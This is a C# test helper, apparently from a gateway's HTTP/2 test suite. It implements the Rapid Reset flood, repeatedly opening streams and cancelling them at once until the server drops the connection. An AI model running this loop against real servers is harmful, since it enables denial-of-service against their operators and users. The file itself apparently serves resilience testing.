using System.Net.Security;
using System.Net.Sockets;
using System.Text;

namespace Gateway.Tests.Http2;

/// <summary>HTTP/2 by hand (RFC 9113): streams that are opened and cancelled in the same breath, until the server has had enough.</summary>
internal static class RapidReset
{
    private const byte EndOfStreamAndHeaders = Frames.EndStream | Frames.EndHeaders;
    private static readonly byte[] Cancel = [0, 0, 0, 8];

    /// <summary>Returns when the server closed the connection.</summary>
    public static async Task RunAsync(Uri server, RemoteCertificateValidationCallback trusts, CancellationToken cancellationToken)
    {
        using var client = new TcpClient();
        await client.ConnectAsync(server.Host, server.Port, cancellationToken);
        await using var tls = new SslStream(client.GetStream(), leaveInnerStreamOpen: false, trusts);
        await tls.AuthenticateAsClientAsync(
            new SslClientAuthenticationOptions { TargetHost = server.Host, ApplicationProtocols = [SslApplicationProtocol.Http2] }, cancellationToken);
        await tls.WriteAsync(Frames.Preface, cancellationToken);
        await tls.WriteAsync(Frames.Frame(Frames.Settings, flags: 0, stream: 0, []), cancellationToken);
        var reading = tls.CopyToAsync(Stream.Null, cancellationToken);
        try
        {
            for (var stream = 1; !reading.IsCompleted; stream += 2)
            {
                byte[] both = [.. Frames.Frame(Frames.Headers, EndOfStreamAndHeaders, stream, Request(server)), .. Frames.Frame(Frames.Reset, flags: 0, stream, Cancel)];
                await tls.WriteAsync(both, cancellationToken);
            }

            await reading;
        }
        catch (IOException)
        {
            // Closed while we were writing.
        }
    }

    /// <summary>HPACK: three entries of the static table (GET, https, and by index 4 the name of :path), and :authority.</summary>
    private static byte[] Request(Uri server) =>
    [
        0x82, 0x87, .. Literal(4, "/open/slow/100"), .. Literal(1, server.Authority),
    ];

    private static byte[] Literal(byte name, string value) => [name, (byte)value.Length, .. Encoding.ASCII.GetBytes(value)];
}
